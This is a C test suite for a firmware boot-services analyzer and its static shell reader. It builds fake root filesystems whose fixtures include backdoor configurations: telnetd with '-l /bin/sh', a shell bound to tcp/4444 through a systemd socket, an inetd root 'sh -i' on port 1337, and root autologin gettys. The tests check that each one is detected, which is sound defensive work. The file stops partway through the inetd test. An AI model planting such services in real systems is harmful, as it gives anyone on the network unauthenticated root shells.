/*
 * The boot-services analyzer and the static shell reader under it.
 *
 * The reader: what is a command and what is not (comments, here-documents,
 * case patterns, quoted text), background marks, word expansion, hostile
 * bytes.  The analyzer, on folder trees laid out like firmware root
 * filesystems: BusyBox and SysV inittab, rcS sourcing and calling scripts,
 * rc.d loops (one that calls itself), OpenWrt procd, systemd units enabled
 * by links (drop-ins, sockets), inetd/xinetd, crontabs, every rule id with
 * its file, offset and evidence, and the negatives the rules must not fire
 * on.  Then junk, a 10 MB script, lines without ends, NUL bytes, and user
 * rules.
 */
#include "testlib.h"

#include "analyze/analyze.h"
#include "analyze/run.h"
#include "analyze/shell.h"
#include "core/err.h"
#include "core/buf.h"
#include "inventory/inventory.h"
#include "unpack/engine.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

extern const struct fv_analyzer fv_analyzer_services;

/* ---- the shell reader ------------------------------------------------------------ */

struct seen {
	char cmds[64][128]; /* first word expanded, then " &" when in the background */
	size_t lines[64];
	size_t n;
	const char *src;
};

static int collect(void *ctx, const struct fv_sh_cmd *c)
{
	struct seen *s = ctx;
	if (c->kind != FV_SH_CMD || s->n >= 64)
		return 0;
	char w[100];
	fv_sh_expand(s->src, c->w[0], 0, NULL, NULL, w, sizeof w);
	snprintf(s->cmds[s->n], sizeof s->cmds[0], "%s%s", w, c->bg ? " &" : "");
	s->lines[s->n++] = c->line;
	return 0;
}

static void parse(const char *src, size_t n, struct seen *s)
{
	memset(s, 0, sizeof *s);
	s->src = src;
	assert_int_equal(fv_sh_parse(src, n, collect, s), 0);
}

static void sh_what_is_a_command(void **state)
{
	(void)state;
	static const char src[] =
		"#!/bin/sh\n"                              /* 1 */
		"# telnetd -l /bin/sh\n"                   /* 2 */
		"  #telnetd\n"                             /* 3 */
		"echo 'telnetd -l /bin/sh' # telnetd\n"    /* 4 */
		"cat > /tmp/x <<EOF\n"                     /* 5 */
		"telnetd -l /bin/sh\n"                     /* 6 */
		"EOF\n"                                    /* 7 */
		"cat <<-'END' ; one\n"                     /* 8 */
		"\ttelnetd\n"                              /* 9 */
		"\tEND\n"                                  /* 10 */
		"case \"$1\" in\n"                         /* 11 */
		"  telnetd|start) two ;;\n"                /* 12 */
		"  (stop) three;;\n"                       /* 13 */
		"  *) four\n"                              /* 14 */
		"esac\n"                                   /* 15 */
		"start() { five & }\n"                     /* 16 */
		"if six; then seven; fi &\n"               /* 17 */
		"( eight; nine ) &\n"                      /* 18 */
		"ten && eleven || twelve | thirteen\n"     /* 19 */
		"fourteen \\\n"                            /* 20 */
		"  -x arg 2>&1 >/dev/null &\n"             /* 21 */
		"for i in a b; do fifteen $i; done\n"      /* 22 */
		"X=1 sixteen \"quoted \\\" # not a comment\" `seventeen`\n" /* 23 */
		"echo $(telnetd) ${x:-telnetd}\n"          /* 24 */
		"eighteen";                                /* 25: no newline */
	struct seen s;
	parse(src, sizeof src - 1, &s);
	static const char *const want[] = { "echo", "cat", "cat", "one", "two", "three", "four", "five &",
					    "six &", "seven &", "eight &", "nine &", "ten", "eleven", "twelve",
					    "thirteen", "fourteen &", "fifteen", "X=1", "echo", "eighteen" };
	static const size_t lines[] = { 4, 5, 8, 8, 12, 13, 14, 16, 17, 17, 18, 18, 19, 19, 19, 19, 20, 22, 23, 24, 25 };
	assert_int_equal(s.n, sizeof want / sizeof want[0]);
	for (size_t i = 0; i < s.n; i++) {
		assert_string_equal(s.cmds[i], want[i]);
		assert_int_equal(s.lines[i], lines[i]);
	}
}

static const char *lk(void *ctx, const char *name, size_t len)
{
	(void)ctx;
	(void)len;
	if (!strcmp(name, "D"))
		return "/etc/init.d";
	if (!strcmp(name, "1"))
		return "start";
	return NULL;
}

static void sh_expand_words(void **state)
{
	(void)state;
	static const struct {
		const char *word;
		int pattern;
		const char *want;
		unsigned flags;
	} cases[] = {
		{ "'/bin/sh'", 0, "/bin/sh", 0 },
		{ "\"$D\"/S??*", 0, "/etc/init.d/S??*", FV_SH_X_GLOB },
		{ "\"$D\"/S??*", 1, "/etc/init.d/S??*", FV_SH_X_GLOB },
		{ "'$D/*'", 1, "$D/\\*", 0 },
		{ "${RC:-/etc/rc.d}/S*", 1, "/etc/rc.d/S*", FV_SH_X_GLOB },
		{ "$UNSET/x", 0, "$UNSET/x", FV_SH_X_UNKNOWN },
		{ "$UNSET/x", 1, "*/x", FV_SH_X_UNKNOWN },
		{ "a\\ b\\\nc", 0, "a bc", 0 },
		{ "\"$1\"", 0, "start", 0 },
		{ "$(id -u)", 0, "$(id -u)", FV_SH_X_UNKNOWN },
		{ "$'tel\\'netd'", 0, "tel\\'netd", 0 },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char out[256];
		struct fv_sh_word w = { 0, strlen(cases[i].word) };
		unsigned f = fv_sh_expand(cases[i].word, w, cases[i].pattern, lk, NULL, out, sizeof out);
		assert_string_equal(out, cases[i].want);
		assert_int_equal(f, cases[i].flags);
	}
	char small[4];
	struct fv_sh_word w = { 0, 7 };
	assert_true(fv_sh_expand("abcdefg", w, 0, NULL, NULL, small, sizeof small) & FV_SH_X_TRUNC);
	assert_string_equal(small, "abc");
	assert_int_equal(fv_sh_assignment("PATH=/bin", (struct fv_sh_word){ 0, 9 }), 4);
	assert_int_equal(fv_sh_assignment("'A'=1", (struct fv_sh_word){ 0, 5 }), 0);
	assert_true(fv_sh_refers("\"${i}\"", (struct fv_sh_word){ 0, 6 }, "i"));
	assert_false(fv_sh_refers("'$i'", (struct fv_sh_word){ 0, 4 }, "i"));
	assert_false(fv_sh_refers("$ii", (struct fv_sh_word){ 0, 3 }, "i"));
}

static int count_only(void *ctx, const struct fv_sh_cmd *c)
{
	(*(size_t *)ctx) += c->nw + 1;
	return 0;
}

static void sh_hostile(void **state)
{
	(void)state;
	/* Random bytes, deep nesting, unterminated quotes and here-documents, NULs: no crash, bounded. */
	size_t n = 1 << 20;
	uint8_t *junk = malloc(n);
	assert_non_null(junk);
	for (uint32_t seed = 1; seed <= 4; seed++) {
		fv_test_fill_random(junk, n, seed);
		size_t cnt = 0;
		assert_int_equal(fv_sh_parse((const char *)junk, n, count_only, &cnt), 0);
	}
	memset(junk, '(', n);
	size_t cnt = 0;
	assert_int_equal(fv_sh_parse((const char *)junk, n, count_only, &cnt), 0);
	memset(junk, '{', n);
	for (size_t i = 1; i < n; i += 2)
		junk[i] = '\n';
	assert_int_equal(fv_sh_parse((const char *)junk, n, count_only, &cnt), 0);
	free(junk);

	static const char *const quiet[] = { "echo \"open\ntelnetd\n", "cat <<EOF\ntelnetd\n", "x='\ntelnetd\n",
					     "echo $(\ntelnetd\n", "echo `\ntelnetd\n", "echo ${\ntelnetd\n" };
	for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++) {
		struct seen s;
		parse(quiet[i], strlen(quiet[i]), &s);
		for (size_t k = 0; k < s.n; k++)
			assert_string_not_equal(s.cmds[k], "telnetd");
	}
	static const char nul[] = "\0\0telnetd\0-l /bin/sh\0\nte\0lnetd";
	struct seen s;
	parse(nul, sizeof nul - 1, &s);
	assert_int_equal(s.n, 2);
	assert_string_equal(s.cmds[0], "telnetd");
	assert_string_equal(s.cmds[1], "te"); /* a NUL is a blank: "te" with the argument "lnetd" */
}

/* ---- the analyzer over folder trees ------------------------------------------------- */

static char tmp[256];

static int group_setup(void **state)
{
	(void)state;
	fv_test_tmpdir(tmp, sizeof tmp, "services");
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	return fv_test_rmtree(tmp);
}

/* A fresh root folder for one test. */
static void root(char *dir, size_t cap, const char *name)
{
	snprintf(dir, cap, "%s/%s", tmp, name);
	fv_test_sh(NULL, "rm -rf '%s' && mkdir -p '%s'", dir, dir);
}

/* A program file: an ELF header is enough to make it a program, not a script. */
static void prog(const char *dir, const char *name)
{
	static const char elf[] = "\177ELF\001\001\001\000\000\000\000\000\000\000\000\000\002\000\010\000";
	fv_test_write_file(dir, name, elf, sizeof elf - 1);
}

static const char *base_of(const char *p)
{
	const char *s = strrchr(p, '/');
	return s ? s + 1 : p;
}

static size_t count_at(const struct fv_results *r, const char *rule, const char *path_suffix)
{
	size_t n = 0;
	for (size_t i = 0; i < r->findings.n; i++) {
		const struct fv_finding *f = &r->findings.v[i];
		size_t pl = strlen(f->path), sl = strlen(path_suffix);
		if ((!rule || !strcmp(f->rule, rule)) && pl >= sl && !strcmp(f->path + pl - sl, path_suffix))
			n++;
	}
	return n;
}

/*
 * The finding of rule at the line `line` of the file at path (whose text is
 * content): its offset is the line's, its evidence the line as written.
 */
static const struct fv_finding *expect(const struct fv_results *r, const char *rule, const char *path,
				       const char *content, const char *line, enum fv_severity sev)
{
	const char *at = strstr(content, line);
	if (!at)
		fail_msg("test bug: \"%s\" is not in the content of %s", line, path);
	while (at > content && at[-1] != '\n')
		at--;
	uint64_t off = (uint64_t)(at - content);
	while (*line == ' ' || *line == '\t') /* evidence is the line without its indentation */
		line++;
	for (size_t i = 0; i < r->findings.n; i++) {
		const struct fv_finding *f = &r->findings.v[i];
		size_t pl = strlen(f->path), sl = strlen(path);
		if (strcmp(f->rule, rule) || pl < sl || strcmp(f->path + pl - sl, path) || f->offset != off)
			continue;
		if (!strstr(f->evidence, line))
			fail_msg("%s at %s:%llu: evidence \"%s\" does not hold \"%s\"", rule, path,
				 (unsigned long long)off, f->evidence, line);
		if (f->severity != sev)
			fail_msg("%s at %s: severity %s, expected %s", rule, path, fv_severity_name(f->severity),
				 fv_severity_name(sev));
		assert_non_null(f->title);
		assert_true(strlen(f->title) > 10);
		return f;
	}
	for (size_t i = 0; i < r->findings.n; i++)
		print_message("  have %s %s @%llu: %s\n", r->findings.v[i].rule, r->findings.v[i].path,
			      (unsigned long long)r->findings.v[i].offset, r->findings.v[i].evidence);
	fail_msg("no %s at %s offset %llu (\"%s\")", rule, path, (unsigned long long)off, line);
	return NULL;
}

static const struct fv_service *service(const struct fv_results *r, const char *path_suffix, const char *program,
					const char *how)
{
	for (size_t i = 0; i < r->nservices; i++) {
		const struct fv_service *s = &r->services[i];
		size_t pl = strlen(s->path), sl = strlen(path_suffix);
		if (pl >= sl && !strcmp(s->path + pl - sl, path_suffix) && !strcmp(s->program, program) &&
		    (!how || !strcmp(s->how, how)))
			return s;
	}
	return NULL;
}

static const struct fv_service *want_service(const struct fv_results *r, const char *path_suffix,
					     const char *program, const char *how, uint64_t line, const char *args)
{
	const struct fv_service *s = service(r, path_suffix, program, how);
	if (!s) {
		for (size_t i = 0; i < r->nservices; i++)
			print_message("  have %s:%llu [%s] %s %s\n", r->services[i].path,
				      (unsigned long long)r->services[i].line, r->services[i].how,
				      r->services[i].program, r->services[i].args);
		fail_msg("no service %s started by %s (%s)", program, path_suffix, how ? how : "any");
	}
	assert_int_equal(s->line, line);
	if (args)
		assert_string_equal(s->args, args);
	return s;
}

static const char busybox_inittab[] =
	"# BusyBox inittab\n"
	"::sysinit:/etc/init.d/rcS\n"
	"::askfirst:-/bin/sh\n"
	"ttyS1::respawn:/sbin/getty -L ttyS1 115200 vt100\n"
	"tty2::askfirst:/bin/login\n"
	"#ttyS0::respawn:/bin/sh\n"
	"::shutdown:/bin/umount -a -r\n"
	"::ctrlaltdel:/usr/sbin/telnetd -l /bin/sh\n"
	"::respawn:/usr/sbin/telnetd -F -l /bin/sh -p 2323\n";

static const char busybox_rcs[] =
	"#!/bin/sh\n"
	"# telnetd -l /bin/sh\n"
	"#telnetd -l /bin/sh\n"
	"mount -a\n"
	"cat > /tmp/motd <<EOF\n"
	"telnetd -l /bin/sh\n"
	"EOF\n"
	"echo \"telnetd -l /bin/sh\"\n"
	"[ -x /usr/sbin/telnetd ] && echo telnetd is here\n"
	"killall telnetd; pidof telnetd\n"
	". /etc/init.d/functions.sh\n"
	"for i in /etc/init.d/S??* ; do\n"
	"\t[ -x $i ] || continue\n"
	"\tcase \"$i\" in\n"
	"\t*telnetd*) echo skipped ;;\n"
	"\t*.sh) . $i ;;\n"
	"\t*) $i start ;;\n"
	"\tesac\n"
	"done\n";

static const char busybox_functions[] =
	"# sourced by rcS\n"
	"start_ssh() {\n"
	"\t/usr/sbin/dropbear -p 22 -B &\n"
	"}\n"
	"start_ssh\n"
	"telnetd -b 192.168.1.1:23\n";

static const char busybox_s50[] =
	"#!/bin/sh\n"
	"case \"$1\" in\n"
	"start)\n"
	"\ttelnetd\n"
	"\t;;\n"
	"esac\n";

static const char busybox_s60[] =
	"#!/bin/sh\n"
	"# calls back into rcS and itself: must not loop\n"
	"/etc/init.d/rcS\n"
	"/etc/init.d/S60loop start\n"
	". /etc/init.d/S60loop\n"
	"for i in /etc/init.d/S??*; do $i start; done\n"
	"/usr/sbin/httpd -h /www &\n";

static void busybox_init(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "busybox");
	fv_test_put(d, "etc/inittab", busybox_inittab);
	fv_test_put(d, "etc/init.d/rcS", busybox_rcs);
	fv_test_put(d, "etc/init.d/functions.sh", busybox_functions);
	fv_test_put(d, "etc/init.d/S50telnet", busybox_s50);
	fv_test_put(d, "etc/init.d/S60loop", busybox_s60);
	fv_test_put(d, "etc/init.d/K50telnet", "#!/bin/sh\ntelnetd -l /bin/sh\n");
	fv_test_put(d, "etc/init.d/S70telnetd", "#!/bin/sh\ntelnetd -l /bin/sh\n"); /* skipped by the case */
	prog(d, "bin/busybox");
	fv_test_sh(d, "mkdir -p sbin usr/sbin && ln -s ../bin/busybox sbin/getty && ln -s ../../bin/busybox "
		      "usr/sbin/telnetd && ln -s ../bin/busybox bin/login && ln -s busybox bin/sh");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);

	/* inittab: the console shell, the login-less telnetd on a port; not login, comments, shutdown */
	expect(&r, "FV-SVC-005", "!/etc/inittab", busybox_inittab, "::askfirst:-/bin/sh", FV_SEV_MEDIUM);
	expect(&r, "FV-SVC-001", "!/etc/inittab", busybox_inittab, "::respawn:/usr/sbin/telnetd -F -l /bin/sh -p 2323",
	       FV_SEV_CRITICAL);
	expect(&r, "FV-SVC-002", "!/etc/inittab", busybox_inittab, "::respawn:/usr/sbin/telnetd -F -l /bin/sh -p 2323",
	       FV_SEV_CRITICAL);
	assert_int_equal(count_at(&r, NULL, "!/etc/inittab"), 3);
	want_service(&r, "!/etc/inittab", "/bin/sh", "inittab askfirst", 3, "");
	want_service(&r, "!/etc/inittab", "/sbin/getty", "inittab respawn", 4, "-L ttyS1 115200 vt100");
	want_service(&r, "!/etc/inittab", "/bin/login", "inittab askfirst", 5, "");
	want_service(&r, "!/etc/inittab", "/etc/init.d/rcS", "inittab sysinit", 2, "");
	assert_null(service(&r, "!/etc/inittab", "/bin/umount", NULL));
	assert_null(service(&r, "!/etc/inittab", "/usr/sbin/telnetd", "inittab ctrlaltdel"));

	/* rcS itself: comments, the here-document, echo, tests and killall start nothing */
	assert_int_equal(count_at(&r, NULL, "!/etc/init.d/rcS"), 0);
	/* a sourced script, a function called there: found at that script's line */
	expect(&r, "FV-SVC-004", "!/etc/init.d/functions.sh", busybox_functions, "\t/usr/sbin/dropbear -p 22 -B &",
	       FV_SEV_HIGH);
	want_service(&r, "!/etc/init.d/functions.sh", "/usr/sbin/dropbear", "rcS", 3, "-p 22 -B");
	expect(&r, "FV-SVC-001", "!/etc/init.d/functions.sh", busybox_functions, "telnetd -b 192.168.1.1:23", FV_SEV_HIGH);
	want_service(&r, "!/etc/init.d/functions.sh", "/usr/sbin/telnetd", "rcS", 6, "-b 192.168.1.1:23");
	/* the loop over S??*: S50telnet runs telnetd; K50 is not run; S60 loops back and still ends */
	const struct fv_finding *t = expect(&r, "FV-SVC-001", "!/etc/init.d/S50telnet", busybox_s50, "\ttelnetd",
					    FV_SEV_HIGH);
	assert_string_equal(t->category, "service");
	assert_int_equal(t->confidence, FV_CONF_HIGH);
	want_service(&r, "!/etc/init.d/S50telnet", "/usr/sbin/telnetd", "rcS", 4, "");
	assert_int_equal(count_at(&r, NULL, "!/etc/init.d/K50telnet"), 0);
	expect(&r, "FV-SVC-006", "!/etc/init.d/S60loop", busybox_s60, "/usr/sbin/httpd -h /www &", FV_SEV_INFO);
	/* a real shell skips S70telnetd (case *telnetd*); a static reading does not evaluate case, so it counts */
	expect(&r, "FV-SVC-001", "!/etc/init.d/S70telnetd", "#!/bin/sh\ntelnetd -l /bin/sh\n", "telnetd -l /bin/sh",
	       FV_SEV_CRITICAL);
	fv_results_free(&r);
}

static const char sysv_inittab[] =
	"id:3:initdefault:\n"
	"si::sysinit:/etc/init.d/rcS\n"
	"l0:0:wait:/etc/init.d/rc 0\n"
	"l3:3:wait:/etc/init.d/rc 3\n"
	"l6:6:wait:/etc/init.d/rc 6\n"
	"1:2345:respawn:/sbin/getty -n -l /bin/sh 38400 tty1\n"
	"2:2345:respawn:/sbin/getty 38400 tty2\n"
	"S0:12345:respawn:/sbin/agetty --autologin root -L ttyS0 115200 vt100\n"
	"ca::ctrlaltdel:/sbin/shutdown -t3 -r now\n";

static const char sysv_rc[] =
	"#!/bin/sh\n"
	"runlevel=$1\n"
	"for s in /etc/rc$runlevel.d/S*; do\n"
	"    [ -x \"$s\" ] && \"$s\" start\n"
	"done\n";

static const char sysv_vsftpd[] =
	"#!/bin/sh\n"
	"DAEMON=/usr/sbin/vsftpd\n"
	"case \"$1\" in\n"
	"  start) start-stop-daemon -S -b -x $DAEMON -- /etc/vsftpd.conf ;;\n"
	"  stop) start-stop-daemon -K -x /usr/sbin/telnetd ;;\n"
	"esac\n";

static void sysv_init(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "sysv");
	fv_test_put(d, "etc/inittab", sysv_inittab);
	fv_test_put(d, "etc/init.d/rc", sysv_rc);
	fv_test_put(d, "etc/init.d/rcS", "#!/bin/sh\nmount -a\n");
	fv_test_put(d, "etc/init.d/vsftpd", sysv_vsftpd);
	fv_test_put(d, "etc/init.d/halt", "#!/bin/sh\n/usr/sbin/telnetd -l /bin/sh\n");
	fv_test_put(d, "etc/init.d/tftp", "#!/bin/sh\nudpsvd -vE 0 69 tftpd -c /srv/tftp &\n");
	fv_test_sh(d, "mkdir -p etc/rc3.d etc/rc0.d etc/rc6.d && ln -s ../init.d/vsftpd etc/rc3.d/S20vsftpd && "
		      "ln -s ../init.d/tftp etc/rc3.d/S30tftp && ln -s ../init.d/halt etc/rc0.d/S90halt && "
		      "ln -s ../init.d/halt etc/rc6.d/S90halt");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-005", "!/etc/inittab", sysv_inittab, "1:2345:respawn:/sbin/getty -n -l /bin/sh 38400 tty1",
	       FV_SEV_MEDIUM);
	expect(&r, "FV-SVC-005", "!/etc/inittab", sysv_inittab, "S0:12345:respawn:/sbin/agetty --autologin root",
	       FV_SEV_MEDIUM);
	assert_int_equal(count_at(&r, NULL, "!/etc/inittab"), 2);
	/* runlevel 3 through rc's loop, start-stop-daemon's program and the arguments after -- */
	expect(&r, "FV-SVC-003", "!/etc/init.d/vsftpd", sysv_vsftpd,
	       "  start) start-stop-daemon -S -b -x $DAEMON -- /etc/vsftpd.conf ;;", FV_SEV_MEDIUM);
	want_service(&r, "!/etc/init.d/vsftpd", "/usr/sbin/vsftpd", "rcS", 4, "/etc/vsftpd.conf");
	assert_null(service(&r, "!/etc/init.d/vsftpd", "/usr/sbin/telnetd", NULL)); /* -K stops */
	const struct fv_finding *t = expect(&r, "FV-SVC-003", "!/etc/init.d/tftp",
					    "#!/bin/sh\nudpsvd -vE 0 69 tftpd -c /srv/tftp &\n",
					    "udpsvd -vE 0 69 tftpd -c /srv/tftp &", FV_SEV_MEDIUM);
	assert_non_null(strstr(t->title, "udp/69"));
	want_service(&r, "!/etc/init.d/tftp", "tftpd", "udpsvd udp/69", 2, "-c /srv/tftp");
	/* runlevels 0 and 6 halt and reboot: not boot */
	assert_int_equal(count_at(&r, NULL, "!/etc/init.d/halt"), 0);
	fv_results_free(&r);
}

static const char owrt_telnet[] =
	"#!/bin/sh /etc/rc.common\n"
	"# Copyright (C) 2006-2011 OpenWrt.org\n"
	"\n"
	"START=50\n"
	"USE_PROCD=1\n"
	"PROG=/usr/sbin/telnetd\n"
	"\n"
	"start_service() {\n"
	"\tprocd_open_instance\n"
	"\tprocd_set_param command \"$PROG\" -F -l /bin/login.sh\n"
	"\tprocd_set_param respawn\n"
	"\tprocd_close_instance\n"
	"}\n";

static const char owrt_dropbear[] =
	"#!/bin/sh /etc/rc.common\n"
	"START=19\n"
	"USE_PROCD=1\n"
	"dropbear_instance() {\n"
	"\tprocd_open_instance\n"
	"\tprocd_set_param command /usr/sbin/dropbear -F -P /var/run/dropbear.pid\n"
	"\t[ \"${BlankPasswordAllowed}\" -eq 1 ] && procd_append_param command -B\n"
	"\tprocd_append_param command -p 22\n"
	"\tprocd_close_instance\n"
	"}\n"
	"start_service() { dropbear_instance; }\n";

static void openwrt_procd(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "openwrt");
	fv_test_put(d, "etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
			      "::askconsole:/usr/libexec/login.sh\n");
	fv_test_put(d, "etc/init.d/telnet", owrt_telnet);
	fv_test_put(d, "etc/init.d/dropbear", owrt_dropbear);
	fv_test_put(d, "etc/init.d/tftpd",
	    "#!/bin/sh /etc/rc.common\nUSE_PROCD=1\nstart_service() {\n\tprocd_open_instance\n"
	    "\tprocd_set_param command /usr/sbin/utftpd\n\tprocd_close_instance\n}\n");
	fv_test_put(d, "etc/rc.common", "#!/bin/sh\n. \"$initscript\"\n$action\n");
	fv_test_sh(d, "mkdir -p etc/rc.d && ln -s ../init.d/telnet etc/rc.d/S50telnet && "
		      "ln -s ../init.d/dropbear etc/rc.d/S19dropbear && ln -s ../init.d/telnet etc/rc.d/K50telnet");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-001", "!/etc/init.d/telnet", owrt_telnet,
	       "\tprocd_set_param command \"$PROG\" -F -l /bin/login.sh", FV_SEV_HIGH);
	want_service(&r, "!/etc/init.d/telnet", "/usr/sbin/telnetd", "procd", 10, "-F -l /bin/login.sh");
	/* -B comes from an appended argument: the finding points at that line */
	expect(&r, "FV-SVC-004", "!/etc/init.d/dropbear", owrt_dropbear,
	       "\t[ \"${BlankPasswordAllowed}\" -eq 1 ] && procd_append_param command -B", FV_SEV_HIGH);
	want_service(&r, "!/etc/init.d/dropbear", "/usr/sbin/dropbear", "procd", 6,
		     "-F -P /var/run/dropbear.pid -B -p 22");
	/* not enabled by an rc.d link: not started */
	assert_int_equal(count_at(&r, NULL, "!/etc/init.d/tftpd"), 0);
	assert_null(service(&r, "!/etc/init.d/tftpd", "/usr/sbin/utftpd", NULL));
	fv_results_free(&r);
}

static const char sd_telnet[] =
	"[Unit]\nDescription=Telnet\n\n[Service]\nExecStart=-/usr/sbin/in.telnetd -L /bin/sh\n"
	"[Install]\nWantedBy=multi-user.target\n";
static const char sd_autologin[] =
	"[Service]\nExecStart=\nExecStart=-/sbin/agetty --autologin root --keep-baud 115200,38400,9600 %I $TERM\n";
static const char sd_shell[] = "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n";
static const char sd_debug[] =
	"[Unit]\nDescription=Early root shell on tty9\n[Service]\nExecStart=/bin/sh\nStandardInput=tty\n"
	"TTYPath=/dev/tty9\n[Install]\nWantedBy=sysinit.target\n";
static const char sd_agent[] =
	"[Service]\nType=simple\nExecStart=/usr/bin/agent \\\n    --listen 0.0.0.0:9000\n";

static void systemd_units(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "systemd");
	fv_test_put(d, "lib/systemd/system/telnet.service", sd_telnet);
	fv_test_put(d, "lib/systemd/system/serial-getty@.service",
	    "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud 115200 %I $TERM\n");
	fv_test_put(d, "etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf", sd_autologin);
	fv_test_put(d, "lib/systemd/system/shell.socket", "[Socket]\nListenStream=0.0.0.0:4444\nAccept=yes\n");
	fv_test_put(d, "lib/systemd/system/shell@.service", sd_shell);
	fv_test_put(d, "lib/systemd/system/debug-shell.service", sd_debug);
	fv_test_put(d, "lib/systemd/system/agent.service", sd_agent);
	fv_test_put(d, "lib/systemd/system/rescue-telnet.service", "[Service]\nExecStart=/usr/sbin/telnetd\n");
	fv_test_put(d, "lib/systemd/system/not-enabled.service", "[Service]\nExecStart=/usr/sbin/telnetd\n");
	fv_test_sh(d, "mkdir -p etc/systemd/system/multi-user.target.wants etc/systemd/system/getty.target.wants "
		      "etc/systemd/system/sockets.target.wants etc/systemd/system/rescue.target.wants && "
		      "cd etc/systemd/system && "
		      "ln -s /lib/systemd/system/telnet.service multi-user.target.wants/ && "
		      "ln -s /lib/systemd/system/agent.service multi-user.target.wants/ && "
		      "ln -s /lib/systemd/system/serial-getty@.service getty.target.wants/serial-getty@ttyS0.service && "
		      "ln -s /lib/systemd/system/shell.socket sockets.target.wants/ && "
		      "ln -s /lib/systemd/system/rescue-telnet.service rescue.target.wants/");
	struct fv_results r;
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-001", "!/lib/systemd/system/telnet.service", sd_telnet,
	       "ExecStart=-/usr/sbin/in.telnetd -L /bin/sh", FV_SEV_CRITICAL);
	want_service(&r, "!/lib/systemd/system/telnet.service", "/usr/sbin/in.telnetd", "systemd", 5, "-L /bin/sh");
	/* the drop-in replaces ExecStart: autologin on the serial console */
	expect(&r, "FV-SVC-005", "!/etc/systemd/system/serial-getty@ttyS0.service.d/autologin.conf", sd_autologin,
	       "ExecStart=-/sbin/agetty --autologin root", FV_SEV_MEDIUM);
	assert_null(service(&r, "!/lib/systemd/system/serial-getty@.service", "/sbin/agetty", NULL));
	/* a socket unit with Accept=yes hands its connections to shell@.service */
	const struct fv_finding *t = expect(&r, "FV-SVC-002", "!/lib/systemd/system/shell@.service", sd_shell,
					    "ExecStart=-/bin/sh -i", FV_SEV_CRITICAL);
	assert_string_equal(t->category, "backdoor");
	assert_non_null(strstr(t->title, "tcp/4444"));
	want_service(&r, "!/lib/systemd/system/shell@.service", "/bin/sh", "systemd socket tcp/4444", 2, "-i");
	/* continuation lines: one command, evidence over both lines */
	want_service(&r, "!/lib/systemd/system/agent.service", "/usr/bin/agent", "systemd", 3, "--listen 0.0.0.0:9000");
	/* WantedBy= alone does not enable; rescue.target is not boot */
	assert_int_equal(count_at(&r, NULL, "!/lib/systemd/system/debug-shell.service"), 0);
	assert_int_equal(count_at(&r, NULL, "!/lib/systemd/system/not-enabled.service"), 0);
	assert_int_equal(count_at(&r, NULL, "!/lib/systemd/system/rescue-telnet.service"), 0);
	assert_int_equal(r.nservices, 4);
	fv_results_free(&r);

	/*
	 * systemd as init: a masked unit never starts; a unit name is read once
	 * whichever folder links it; a SysV script runs only without a native unit.
	 */
	fv_test_put(d, "lib/systemd/system/masked.service", "[Service]\nExecStart=/usr/sbin/telnetd\n");
	fv_test_put(d, "etc/init.d/agent", "#!/bin/sh\n/usr/sbin/telnetd -l /bin/sh &\n");
	fv_test_put(d, "etc/init.d/legacy", "#!/bin/sh\n/usr/sbin/utelnetd &\n");
	fv_test_put(d, "lib/systemd/systemd", "not run");
	fv_test_sh(d, "cd etc/systemd/system && ln -s /dev/null masked.service && "
		      "ln -s /lib/systemd/system/masked.service multi-user.target.wants/ && "
		      "mkdir -p /%s/lib/systemd/system/multi-user.target.wants && "
		      "ln -s ../agent.service /%s/lib/systemd/system/multi-user.target.wants/ && "
		      "cd ../../.. && mkdir -p sbin etc/rc3.d && ln -s ../lib/systemd/systemd sbin/init && "
		      "ln -s ../init.d/agent etc/rc3.d/S01agent && ln -s ../init.d/legacy etc/rc3.d/S02legacy", d, d);
	fv_test_analyze(d, &fv_analyzer_services, &r);
	assert_int_equal(count_at(&r, NULL, "!/lib/systemd/system/masked.service"), 0);
	assert_int_equal(count_at(&r, NULL, "!/etc/init.d/agent"), 0);
	expect(&r, "FV-SVC-001", "!/etc/init.d/legacy", "#!/bin/sh\n/usr/sbin/utelnetd &\n", "/usr/sbin/utelnetd &",
	       FV_SEV_HIGH);
	assert_int_equal(r.nservices, 5);
	fv_results_free(&r);

	/* enabled, debug-shell is a root shell on a console */
	fv_test_sh(d, "ln -s /lib/systemd/system/debug-shell.service etc/systemd/system/multi-user.target.wants/");
	fv_test_analyze(d, &fv_analyzer_services, &r);
	expect(&r, "FV-SVC-005", "!/lib/systemd/system/debug-shell.service", sd_debug, "ExecStart=/bin/sh",
	       FV_SEV_MEDIUM);
	fv_results_free(&r);
}

static const char inetd_conf[] =
	"# internet services\n"
	"telnet  stream  tcp  nowait  root  /usr/sbin/telnetd  telnetd -i\n"
	"#ftp    stream  tcp  nowait  root  /usr/sbin/ftpd  ftpd -w\n"
	"tftp    dgram   udp  wait    root  /usr/sbin/tcpd   in.tftpd -s /tftpboot\n"
	"1337    stream  tcp  nowait  root  /bin/sh  sh -i\n"
	"echo    stream  tcp  nowait  root  internal\n";

static const char xinetd_telnet[] =
	"# default: on\n"
	"service telnet\n"
	"{\n"
	"\tdisable         = no\n"
	"\tsocket_type     = stream\n"
	"\tserver          = /usr/sbin/in.telnetd\n"
	"\tserver_args     = -L /bin/sh\n"
	"}\n";

static void superservers(void **state)
{
	(void)state;
	char d[512];
	root(d, sizeof d, "inetd");
	fv_test_put(d, "etc/inetd.conf", inetd_conf);
	fv_test_put(d, "etc/services", "ftp 21/tcp\ntelnet\t\t23/tcp\ntftp 69/udp\n");
	fv_test_put(d, "etc/xinetd.d/telnet", xinetd_telnet);
